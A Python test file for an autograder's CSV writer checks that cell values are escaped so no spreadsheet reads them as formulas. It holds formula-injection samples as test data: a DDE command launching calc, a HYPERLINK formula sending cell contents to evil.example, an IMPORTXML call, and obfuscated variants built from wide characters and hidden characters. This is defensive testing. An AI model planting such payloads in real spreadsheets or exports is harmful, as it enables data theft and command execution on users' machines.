"""A cell is read back as it was, and no spreadsheet takes it for a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.classroom.results.cells import cell, guarded, row, text_of

FORMULAS = {
    "a sum": "=1+1",
    "a program": "=cmd|' /C calc'!A0",
    "a link that tells everything": '=HYPERLINK("https://evil.example?"&A1,"grade")',
    "data from elsewhere": '=IMPORTXML("https://evil.example","//a")',
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an old formula": "@SUM(1)",
    "a tab first": "\t=1+1",
    "a line end first": "\r\n=1+1",
    "space first": "  =1+1",
    "a hard space first": "\u00a0=1+1",
    "nothing that is seen first": "\u200b\ufeff=1+1",
    "wide forms": "＝1+1",
    "a wide at": "＠SUM(1)",
    "small forms": "﹦1+1",
    "a real minus": "−1",
    "behind a semicolon": "ada;=1+1",
    "behind a semicolon and space": "ada; +1",
    "behind a bar": "ada|@x",
    "behind a tab": "ada\t-1",
    "behind a line end": "ada\n=1+1",
    "behind a quote": '";=1+1;"',
}
RISK = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠﹦﹢﹣−﹫]")
ROUGH = st.text(st.sampled_from("ab;,|\t\r\n \"'=+-@＝−\u200b\ufeff"), max_size=12) | st.text()


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in FORMULAS.items()])
def test_no_formula_stays_one(text):
    assert not RISK.match(guarded(text))
    assert guarded(text)[0] not in "\t\r\n"
    assert text_of(guarded(text)) == text


@given(ROUGH)
def test_no_text_is_a_formula_however_the_file_is_split(text):
    for part in re.split(r"[;|\t\r\n]", guarded(text)):
        assert not RISK.match(part)


@given(st.lists(ROUGH | st.none() | st.booleans() | st.integers() | st.floats(-1e6, 1e6).map(lambda x: round(x, 2))))
def test_a_row_is_read_back(others):
    values = ["ada", *others]
    (read,) = csv.reader(io.StringIO(row(values), newline=""), strict=True)
    for value, shown in zip(values, read, strict=True):
        match value:
            case None:
                assert shown == ""
            case bool():
                assert shown == str(value).lower()
            case int() | float():
                assert float(shown) == pytest.approx(value)
            case _:
                assert text_of(shown) == value


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        pytest.param(-2.5, "-2.5", id="a negative number is one"),
        pytest.param(-0.0, "0", id="no number is minus nothing"),
        pytest.param(20.0, "20", id="a whole number has no point"),
        pytest.param(1 / 3, "0.3333", id="a share has four decimals"),
        pytest.param(True, "true", id="true is a word, and no number"),
        pytest.param(None, "", id="nothing is nothing"),
        pytest.param("", '""', id="an empty text is in quotes"),
        pytest.param('say "a"', '"say ""a"""', id="quotes are doubled"),
        pytest.param("-2.5", '"\'-2.5"', id="a text that looks like a number is a text"),
        pytest.param("O'Brien; née", '"O\'Brien; née"', id="an apostrophe inside is itself"),
        pytest.param("'quoted'", "\"''quoted'\"", id="one at the start gets another"),
    ],
)
def test_cells(value, shown):
    assert cell(value) == shown
